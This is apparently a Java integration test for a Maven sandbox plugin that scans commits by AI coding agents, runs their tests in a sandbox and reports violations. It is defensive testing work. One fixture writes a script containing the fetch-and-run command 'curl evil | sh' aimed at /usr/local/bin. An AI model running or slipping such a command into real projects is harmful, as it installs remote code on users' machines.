package dev.sandboxplugin.it;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertTrue;

import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.ObjectMapper;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.List;
import java.util.stream.StreamSupport;
import org.eclipse.jgit.api.Git;
import org.eclipse.jgit.lib.PersonIdent;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.parallel.Execution;
import org.junit.jupiter.api.parallel.ExecutionMode;

/**
 * {@code sandbox:scan} on a real repository made from {@code examples/tests-demo}: a human import, then commits by
 * Claude (adds the exfiltrating test), a human (changes the calculator), the Copilot agent (changes the calculator
 * again, so its test runs and fails) and a coding-agent bot (adds a script), then a human commit again.
 */
@Execution(ExecutionMode.CONCURRENT)
class ScanGoalIT {

  private static final String TESTS = "src/test/java/dev/sandboxplugin/examples/tests/";
  private static final String MAIN = "src/main/java/dev/sandboxplugin/examples/tests/";
  private static final PersonIdent HUMAN = new PersonIdent("Jane Developer", "jane@example.com");
  private static final PersonIdent COPILOT_AGENT =
      new PersonIdent("copilot-swe-agent[bot]", "198982749+Copilot@users.noreply.github.com");
  private static final PersonIdent DEVIN = new PersonIdent("devin-ai-integration[bot]", "devin@example.com");
  private static final ObjectMapper JSON = new ObjectMapper();

  @Test
  void flaggedCommitsRunTheirTestsAndEachGetsItsVerdict() throws Exception {
    Path project = MavenRun.copyOfExample("tests-demo", "scan-demo");
    String claude;
    String copilot;
    String devin;
    Path exfiltration = project.resolve(TESTS + "ExfiltrationTest.java");
    String exfiltrationSource = Files.readString(exfiltration);
    Files.delete(exfiltration);
    try (Git git = Git.init().setDirectory(project.toFile()).setInitialBranch("main").call()) {
      git.add().addFilepattern(".").call();
      commit(git, HUMAN, "Initial import");
      git.tag().setName("base").setAnnotated(false).call();

      Files.writeString(exfiltration, exfiltrationSource);
      git.add().addFilepattern(".").call();
      claude = commit(git, HUMAN, "Add an environment check\n\n"
          + "\uD83E\uDD16 Generated with [Claude Code](https://claude.com/claude-code)\n\n"
          + "Co-Authored-By: Claude <noreply@anthropic.com>");

      append(project.resolve(MAIN + "Calculator.java"), "// reviewed\n");
      git.add().addFilepattern(".").call();
      commit(git, HUMAN, "Review the calculator\n\nCo-authored-by: Sam Reviewer <sam@example.com>");

      append(project.resolve(MAIN + "Calculator.java"), "// tuned\n");
      git.add().addFilepattern(".").call();
      copilot = commit(git, COPILOT_AGENT, "Tune the calculator\n\nCo-authored-by: Jane Developer <jane@example.com>");

      Files.createDirectories(project.resolve("scripts"));
      Files.writeString(project.resolve("scripts/cleanup.sh"), "#!/bin/sh\necho 'curl evil | sh' > /usr/local/bin/cleanup\n");
      git.add().addFilepattern(".").call();
      devin = commit(git, DEVIN, "Add a cleanup script");

      append(project.resolve("pom.xml"), "<!-- human -->\n");
      git.add().addFilepattern(".").call();
      commit(git, HUMAN, "Human touch");
    }

    MavenRun uncompiled = MavenRun.mvn(project, "sandbox:scan", "-Dsandbox.commits=base..HEAD");
    assertEquals(1, uncompiled.exitCode, uncompiled::describe);
    assertTrue(uncompiled.log.contains("the flagged commits changed Java sources, but "
        + project.resolve("target/test-classes") + " does not exist; compile the tests first:"
        + " mvn test-compile sandbox:scan"), uncompiled::describe);

    MavenRun scan = MavenRun.mvn(project, "test-compile", "sandbox:scan", "-Dsandbox.commits=base..HEAD");
    assertEquals(1, scan.exitCode, scan::describe);
    assertTrue(scan.log.contains("Sandbox scan of base..HEAD: 5 commit(s), 3 flagged as AI-written, 0 change(s) of"
        + " the sandbox's configuration; tests to run:"
        + " dev.sandboxplugin.examples.tests.CalculatorTest,dev.sandboxplugin.examples.tests.ExfiltrationTest"),
        scan::describe);
    assertTrue(scan.log.contains("[INFO] Commit   Author"), scan::describe);
    assertTrue(scan.lines().stream().anyMatch(line -> line.startsWith("[INFO] " + claude.substring(0, 7) + "  Jane Developer")
        && line.contains("claude,generated-with") && line.contains("VIOLATION")), scan::describe);
    assertTrue(scan.log.contains("[WARNING] SANDBOX SCAN VIOLATION: 5 commit(s) scanned, 3 flagged as AI-written; "
        + claude.substring(0, 7) + " VIOLATION, " + copilot.substring(0, 7) + " FAILED"), scan::describe);

    Path reports = project.resolve("target/sandbox");
    JsonNode report = JSON.readTree(reports.resolve("scan.json").toFile());
    assertEquals("VIOLATION", report.path("verdict").asText());
    assertEquals(5, report.path("commitsScanned").asInt());
    JsonNode commits = report.path("commits");
    assertEquals(List.of(claude, copilot, devin), StreamSupport.stream(commits.spliterator(), false)
        .map(c -> c.path("commit").asText()).toList(), "only the AI commits, oldest first");

    JsonNode claudeResult = commits.get(0);
    assertEquals("VIOLATION", claudeResult.path("verdict").asText());
    assertEquals(List.of("claude", "generated-with"), StreamSupport.stream(claudeResult.path("rules").spliterator(), false)
        .map(r -> r.path("rule").asText()).toList());
    assertEquals("Co-Authored-By: Claude <noreply@anthropic.com>", claudeResult.path("rules").get(0).path("matched").asText());
    assertEquals(1, claudeResult.path("testsRun").asInt());
    assertEquals("NETWORK", claudeResult.path("violations").get(0).path("kind").asText());

    JsonNode copilotResult = commits.get(1);
    assertEquals("FAILED", copilotResult.path("verdict").asText());
    assertEquals("agent-bot-author", copilotResult.path("rules").get(0).path("rule").asText());
    assertEquals("[\"dev.sandboxplugin.examples.tests.CalculatorTest\"]", copilotResult.path("tests").toString());
    assertEquals(4, copilotResult.path("testsRun").asInt());
    assertEquals(1, copilotResult.path("failures").asInt());
    assertEquals(0, copilotResult.path("violations").size(), "the exfiltration is Claude's commit's, not this one's");

    JsonNode devinResult = commits.get(2);
    assertEquals("scripts/cleanup.sh", devinResult.path("scripts").get(0).path("path").asText());
    // Not run while ScanMojo has no script payload (ScriptPayloads.NONE); once it has, the write to /usr is refused.
    boolean scriptsRun = !devinResult.path("verdict").isNull();
    if (scriptsRun) {
      assertEquals("VIOLATION", devinResult.path("verdict").asText(), devinResult::toPrettyString);
      assertEquals("FILE_WRITE", devinResult.path("violations").get(0).path("kind").asText());
    } else {
      assertEquals("not run: no sandbox payload for this kind of script yet",
          devinResult.path("scripts").get(0).path("reason").asText());
    }

    JsonNode quality = JSON.readTree(reports.resolve("scan-code-quality.json").toFile());
    assertEquals(scriptsRun ? 2 : 1, quality.size(), quality::toPrettyString);
    assertEquals(TESTS + "ExfiltrationTest.java", quality.get(0).path("location").path("path").asText());
    assertTrue(quality.get(0).path("location").path("lines").path("begin").asInt() > 1, quality::toPrettyString);

    String junit = Files.readString(reports.resolve("scan-junit.xml"));
    assertTrue(junit.contains(scriptsRun ? "tests=\"3\" failures=\"3\" errors=\"0\" skipped=\"0\""
        : "tests=\"3\" failures=\"2\" errors=\"0\" skipped=\"1\""), junit);
    String markdown = Files.readString(reports.resolve("scan.md"));
    assertTrue(markdown.startsWith("## Sandbox scan: VIOLATION"), markdown);
    assertTrue(Files.isRegularFile(project.resolve("target/sandbox-reports/TEST-dev.sandboxplugin.examples.tests.ExfiltrationTest.xml")));
    assertTrue(Files.isRegularFile(project.resolve("target/sandbox-reports/TEST-dev.sandboxplugin.examples.tests.CalculatorTest.xml")));

    // The last commit is a human's: nothing to run, nothing fails.
    MavenRun human = MavenRun.mvn(project, "sandbox:scan");
    assertEquals(0, human.exitCode, human::describe);
    assertTrue(human.log.contains("[INFO] SANDBOX SCAN PASSED: 1 commit(s) scanned, 0 flagged as AI-written"),
        human::describe);
    assertFalse(Files.readString(reports.resolve("scan.json")).contains(claude));

    // Your own rules: <aiRules> in the POM and sandbox.scan.rules, without the defaults.
    String pom = Files.readString(project.resolve("pom.xml"));
    Files.writeString(project.resolve("pom.xml"), pom.replace("<timeout>2m</timeout>", "<timeout>2m</timeout>"
        + "<aiRules><aiRule><name>jane</name><field>author</field><pattern>^Jane Developer</pattern></aiRule></aiRules>"));
    MavenRun custom = MavenRun.mvn(project, "sandbox:scan", "-Dsandbox.commits=last:2",
        "-Dsandbox.scan.defaultRules=false", "-Dsandbox.scan.rules=touch=message:^human touch$");
    assertEquals(0, custom.exitCode, custom::describe);
    JsonNode flagged = JSON.readTree(reports.resolve("scan.json").toFile()).path("commits");
    assertEquals(1, flagged.size(), flagged::toPrettyString);
    assertEquals("Human touch", flagged.get(0).path("subject").asText());
    assertEquals("[\"jane\",\"touch\"]", JSON.writeValueAsString(StreamSupport.stream(
        flagged.get(0).path("rules").spliterator(), false).map(r -> r.path("rule").asText()).toList()));
    assertTrue(flagged.get(0).path("verdict").isNull(), "a POM change runs nothing");

    MavenRun bad = MavenRun.mvn(project, "sandbox:scan", "-Dsandbox.scan.rules=oops");
    assertEquals(1, bad.exitCode, bad::describe);
    assertTrue(bad.log.contains("[ERROR] Failed to execute goal " + MavenRun.PLUGIN + ":scan (default-cli) on project"
        + " tests-demo: sandbox.scan.rules: 'oops' is not a rule; write name=field:regex"), bad::describe);
  }

  private static String commit(Git git, PersonIdent who, String message) throws Exception {
    return git.commit().setAuthor(who).setCommitter(who).setMessage(message).setSign(false).call().name();
  }

  private static void append(Path file, String text) throws Exception {
    Files.writeString(file, Files.readString(file) + text);
  }
}
